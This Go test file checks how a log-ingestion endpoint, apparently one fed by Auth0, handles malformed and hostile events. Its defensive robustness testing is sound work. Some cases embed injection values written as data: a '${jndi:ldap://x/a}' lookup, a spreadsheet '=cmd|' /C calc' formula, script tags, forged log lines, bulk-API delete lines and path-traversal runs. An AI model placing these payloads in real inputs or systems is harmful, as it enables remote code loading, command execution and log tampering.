package hostile_test

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// event is an event of today with more members in its data.
func event(members string) string {
	return `{"log_id":"ID1","data":{"type":"s","date":"NOW",` + members + `}}`
}

// forms are about the text of a body.
func forms() []attempt {
	lines := func(n int, at int, odd string) string {
		var all []string
		for i := range n {
			line := fmt.Sprintf(`{"log_id":"%%s","data":{"type":"s","date":"NOW","note":"%d"}}`, i)
			if i == at {
				line = odd
			}
			all = append(all, line)
		}
		return strings.Join(all, "\n")
	}
	// mixed fills every %s with an id of its own.
	mixed := func(text string) func(*visit) {
		return func(v *visit) {
			for strings.Contains(text, "%s") {
				id := v.id()
				v.events[id] = true
				text = strings.Replace(text, "%s", id, 1)
			}
			body(text)(v)
		}
	}
	return []attempt{
		{name: "one array, one object, lines, CRLF lines, no last line end, one event", do: func(v *visit) {
			one, two := v.fill(`{"log_id":"ID1","data":{"type":"s","date":"NOW"}}`), v.fill(`{"log_id":"ID2","data":{"type":"s","date":"NOW"}}`)
			for _, form := range []string{"[%s,%s]", `{"logs":[%s,%s]}`, "%s\n%s\n", "%s\r\n%s\r\n", "%s\n%s", "%s%s", " [ %s\n,\t%s ] \n"} {
				v.post(strings.NewReader(fmt.Sprintf(form, one, two)))
			}
		}, answer: "200 accepted", becomes: "2 documents"},
		{name: "a byte order mark", do: body("\ufeff" + oneEvent), answer: "200 accepted", becomes: "1 document"},
		{name: "UTF-16", do: bytesOf(func(v *visit) []byte {
			var wide []byte
			for _, c := range []byte(v.fill(oneEvent)) {
				wide = append(wide, c, 0)
			}
			return append([]byte{0xff, 0xfe}, wide...)
		}, "Content-Type", "application/json; charset=utf-16"), answer: "200 accepted", becomes: "1 not_json"},
		{name: "one bad line in the middle of 100", do: mixed(lines(100, 50, `{"log_id":"MARK broken`)), answer: "200 accepted", becomes: "99 documents, 1 not_json"},
		{name: "one line of rubbish in front of 99 events", do: mixed(lines(100, 0, "MARK rubbish")), answer: "200 accepted", becomes: "99 documents, 1 not_json"},
		{name: "an array that never ends", do: body(`[` + oneEvent + `,` + strings.ReplaceAll(oneEvent, "ID1", "ID2")), answer: "200 accepted", becomes: "2 documents"},
		{name: "100,000 brackets that open", do: body(strings.Repeat("[", 100_000)), answer: "200 accepted", becomes: "1 not_json"},
		{name: "100,000 objects in one another, none of them whole", do: body(strings.Repeat(`{"a":`, 100_000)), answer: "200 accepted", becomes: "1 too_deep"},
		{name: "a text that never ends, 1 MB", do: body(`{"log_id":"` + strings.Repeat("x", 1<<20)), answer: "200 accepted", becomes: "1 not_json"},
		{name: "5,000 lines of nothing but rubbish: they stay together", do: body(strings.Repeat("MARK\n", 5000)), answer: "200 accepted", becomes: "1 not_json"},
		{name: "a comma too many, comments, single quotes, `NaN`, `Infinity`, `0x10`, `+1`, `.5`, `01`", do: body(strings.Join([]string{
			`{"log_id":"a","data":{"n":1,}}`, `{"log_id":"a",/*x*/"data":{}}`, `{'log_id':'a'}`, `{"log_id":"a","data":{"n":NaN}}`, `{"log_id":"a","data":{"n":Infinity}}`,
			`{"log_id":"a","data":{"n":0x10}}`, `{"log_id":"a","data":{"n":+1}}`, `{"log_id":"a","data":{"n":.5}}`, `{"log_id":"a","data":{"n":01}}`,
		}, "\n")), answer: "200 accepted", becomes: "9 not_json"},
		{name: "numbers, texts, `null`, `true` and arrays in place of events", do: body("1\n\"MARK\"\nnull\ntrue\n[[1]]\n"), answer: "200 accepted", becomes: "1 not_an_object, 4 not_json"},
		{name: "invalid UTF-8, an overlong slash, half a surrogate", do: body(strings.Join([]string{
			"{\"log_id\":\"a\",\"data\":{\"n\":\"\xff\xfe\"}}", "{\"log_id\":\"a\",\"data\":{\"n\":\"\xc0\xaf\"}}", "{\"log_id\":\"a\",\"data\":{\"n\":\"\xed\xa0\x80\"}}",
		}, "\n")), answer: "200 accepted", becomes: "3 invalid_utf8"},
		{name: "raw control characters and a NUL in a text", do: body("{\"log_id\":\"a\",\"data\":{\"n\":\"\x01\x1b[31m\"}}\n{\"log_id\":\"a\",\"data\":{\"n\":\"\x00\"}}"), answer: "200 accepted", becomes: "2 not_json"},
		{name: "10,001 arrays deep", do: body(event(`"n":` + strings.Repeat("[", 10_001) + strings.Repeat("]", 10_001))), answer: "200 accepted", becomes: "1 too_deep"},
		{name: "60 objects deep", do: body(event(`"n":` + strings.Repeat(`{"a":`, 60) + "1" + strings.Repeat("}", 60))), answer: "200 accepted", becomes: "1 document"},
		{name: "100,000 members", do: bytesOf(func(v *visit) []byte {
			var all strings.Builder
			for i := range 100_000 {
				fmt.Fprintf(&all, `"k%d":%d,`, i, i)
			}
			return []byte(v.fill(event(all.String() + `"z":0`)))
		}), answer: "200 accepted", becomes: "1 document"},
		{name: "lines of a bulk request: nothing is deleted", do: body("{\"delete\":{\"_index\":\"logs-auth0.logs-default\",\"_id\":\"1\"}}\n{\"index\":{}}\n" + event(`"note":"x\n{\"delete\":{\"_id\":\"1\"}}\n"`)), answer: "200 accepted", becomes: "1 document, 2 no_log_id"},
	}
}

// members are about what an event says.
func members() []attempt {
	dated := func(dates ...string) func(*visit) {
		return func(v *visit) {
			for i, date := range dates {
				v.post(strings.NewReader(fmt.Sprintf(`{"log_id":"%s-%d","data":{"type":"s","date":%s}}`, v.mark, i, date)))
			}
		}
	}
	named := func(ids ...string) func(*visit) {
		return func(v *visit) {
			for _, id := range ids {
				v.post(strings.NewReader(v.fill(`{"log_id":` + id + `,"data":{"type":"s","date":"NOW"}}`)))
			}
		}
	}
	return []attempt{
		{name: "`log_id` missing, `null`, a number, an object, an array, empty", do: func(v *visit) {
			named(`null`, `17`, `{"a":1}`, `["a"]`, `""`)(v)
			body(`{"data":{"type":"s"}}`)(v)
		}, answer: "200 accepted", becomes: "6 no_log_id"},
		{name: "`log_id` of 513 bytes and of 1 MB", do: named(`"`+strings.Repeat("MARK", 128)+`x"`, `"MARK`+strings.Repeat("y", 1<<20)+`"`), answer: "200 accepted", becomes: "2 documents"},
		{name: "`log_id` of control characters, emoji, `..`, `*`, `>`, quotes, a line end, a path", do: named(`"MARK\u0001\u0002"`, `"MARK😀"`, `"MARK.."`, `"MARK*"`, `"MARK>"`, `"MARK\"'"`, `"MARK\n{\"delete\":{}}"`, `"../../MARK"`, `"MARK\u0000"`), answer: "200 accepted", becomes: "9 documents"},
		{name: "`LOG_ID` beside `log_id`: only the one written small counts", do: body(`{"LOG_ID":"other","log_id":"ID1","Data":{},"data":{"type":"s","date":"NOW"}}`), answer: "200 accepted", becomes: "1 document"},
		{name: "a member twice", do: body(`{"log_id":"ID1","data":{"type":"s","date":"NOW","client_name":"a","client_name":"b"}}`), answer: "200 accepted", becomes: "1 document_parsing_exception"},
		{name: "two different events with one `log_id`: the first stays", do: func(v *visit) {
			one := v.fill(event(`"note":"first"`))
			v.post(strings.NewReader(one))
			v.post(strings.NewReader(strings.ReplaceAll(one, "first", "second")))
		}, answer: "200 accepted", becomes: "1 document"},
		{name: "the same event with its members in another order", do: func(v *visit) {
			id := v.fill("ID1")
			now := v.fill("NOW")
			body(`{"log_id":"` + id + `","data":{"type":"s","date":"` + now + `"}}`)(v)
			body(`{"data":{"date":"` + now + `","type":"s"},"log_id":"` + id + `"}`)(v)
		}, answer: "200 accepted", becomes: "1 document"},
		{name: "`date` missing, \"yesterday\", a number, an object, 30 February, a leap second", do: func(v *visit) {
			dated(`"yesterday"`, `1700000000`, `{"$date":1}`, `"2026-02-30T00:00:00.000Z"`, `"2016-12-31T23:59:60.000Z"`)(v)
			body(`{"log_id":"MARK-none","data":{"type":"s"}}`)(v)
		}, answer: "200 accepted", becomes: "6 documents"},
		{name: "`date` of the years 0000, 0001, 1969, −5: no index for any of them", do: dated(`"0000-01-01T00:00:00.000Z"`, `"0001-01-01T00:00:00.000Z"`, `"1969-07-20T20:17:40.000Z"`, `"-0005-01-01T00:00:00Z"`), answer: "200 accepted", becomes: "4 documents"},
		{name: "`date` of the years 9999 and 12026, and of the day after tomorrow", do: dated(`"9999-12-31T23:59:59.999Z"`, `"12026-01-01T00:00:00.000Z"`, `"`+time.Now().UTC().AddDate(0, 0, 3).Format(time.RFC3339)+`"`), answer: "200 accepted", becomes: "1 document, 2 time_in_future"},
		{name: "`date` with the offset +14:00, and with nanoseconds", do: dated(`"2026-01-01T13:59:59+14:00"`, `"2026-01-01T00:00:00.123456789Z"`), answer: "200 accepted", becomes: "2 documents"},
		{name: "an event of 30 days ago, sent again", do: func(v *visit) {
			then := time.Now().UTC().AddDate(0, 0, -30)
			old := fmt.Sprintf(`{"log_id":"900%s%039d","data":{"type":"s","date":%q}}`, then.Format("20060102150405"), v.made.Add(1), then.Format(time.RFC3339))
			for range 5 {
				v.post(strings.NewReader(old))
			}
		}, answer: "200 accepted", becomes: "1 document"},
		{name: "integers of 2^53+1, 2^64 and 20 digits, 1e999, −0", do: body(event(`"n":[9007199254740993,18446744073709551616,12345678901234567890,1e999,-0],"details":{"n":1e999}`)), answer: "200 accepted", becomes: "1 document"},
		{name: "a number of 1,500 digits", do: body(event(`"n":` + strings.Repeat("9", 1500))), answer: "200 accepted", becomes: "1 document_parsing_exception"},
		{name: "objects for texts, texts for objects, arrays of everything", do: body(event(`"ip":{"a":1},"details":"text","user_agent":[1,{"b":null},[]],"isMobile":"x","location_info":7,"client_name":["a",{"b":1}],"connection":{"":{}}`)), answer: "200 accepted", becomes: "1 document"},
		{name: "members named \"\", `..`, `a.b` beside `a`, `_id`, `@timestamp`, and one of 10,000 characters", do: body(event(`"":1,"..":2,"a.b":3,"a":{},"_id":"x","@timestamp":"1970-01-01","` + strings.Repeat("k", 10_000) + `":1`)), answer: "200 accepted", becomes: "1 document"},
		{name: "a text of 40,000 bytes, and one of 900 KB", do: body(event(`"client_id":"` + strings.Repeat("w", 40_000) + `","description":"` + strings.Repeat("MARK ", 180_000) + `"`)), answer: "200 accepted", becomes: "1 document"},
		{name: "NUL, half a surrogate and U+2028, as escapes", do: body(event(`"client_name":"a\u0000b","note":"\ud800","description":"\u2028\u2029\u0085"`)), answer: "200 accepted", becomes: "1 document"},
		{name: "script, ANSI escapes, `${jndi:}`, `{{7*7}}`, a formula and a forged log line in every text", do: func(v *visit) {
			var all []string
			for _, name := range []string{"client_name", "user_name", "user_agent", "description", "connection", "strategy", "hostname", "scope", "audience"} {
				all = append(all, `"`+name+`":"<script>MARK</script>\u001b[2J${jndi:ldap://x/a}{{7*7}}=cmd|' /C calc'!A0\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}"`)
			}
			body(event(strings.Join(all, ",")))(v)
		}, answer: "200 accepted", becomes: "1 document"},
		{name: "addresses that are none: with a zone, 999.1.1.1, empty, of 10 KB", do: func(v *visit) {
			for _, ip := range []string{"fe80::1%eth0", "::ffff:1.2.3.4", "999.1.1.1", "", strings.Repeat("1.", 5000), "1.2.3.4, 5.6.7.8"} {
				body(event(`"ip":"` + ip + `","client_ip":"` + ip + `"`))(v)
			}
		}, answer: "200 accepted", becomes: "6 documents"},
		{name: "a user agent of 64 KB, and texts that make careless patterns run for ever", do: body(event(`"user_agent":"Mozilla/5.0 (` + strings.Repeat("((((a+)+)+)+ ", 5000) + `!"`)), answer: "200 accepted", becomes: "1 document"},
		{name: "a path of 60 KB of escapes in a Management API call", do: body(event(`"details":{"request":{"method":"patch","path":"/api/v2/` + strings.Repeat("%2e%2e%2f", 7000) + `","body":{"password":"MARK"}},"response":{"statusCode":200}}`)), answer: "200 accepted", becomes: "1 document"},
		{name: "1,000 different `type`s that are no codes", do: bytesOf(func(v *visit) []byte {
			all := make([]string, 1000)
			for i := range all {
				all[i] = v.fill(fmt.Sprintf(`{"log_id":"ID1","data":{"type":"MARK %d","date":"NOW"}}`, i))
			}
			return []byte(strings.Join(all, "\n"))
		}), answer: "200 accepted", becomes: "1000 documents"},
		{name: "1,000 events of the last three days, replayed in two orders", do: func(v *visit) {
			all := make([]string, 1000)
			for i := range all {
				then := time.Now().UTC().Add(-time.Duration(i) * 4 * time.Minute)
				all[i] = fmt.Sprintf(`{"log_id":"900%s%039d","data":{"type":"s","date":%q}}`, then.Format("20060102150405"), v.made.Add(1), then.Format(time.RFC3339))
			}
			v.post(strings.NewReader(strings.Join(all, "\n")))
			slices.Reverse(all)
			v.post(strings.NewReader("[" + strings.Join(all, ",") + "]"))
		}, answer: "200 accepted", becomes: "1000 documents"},
	}
}
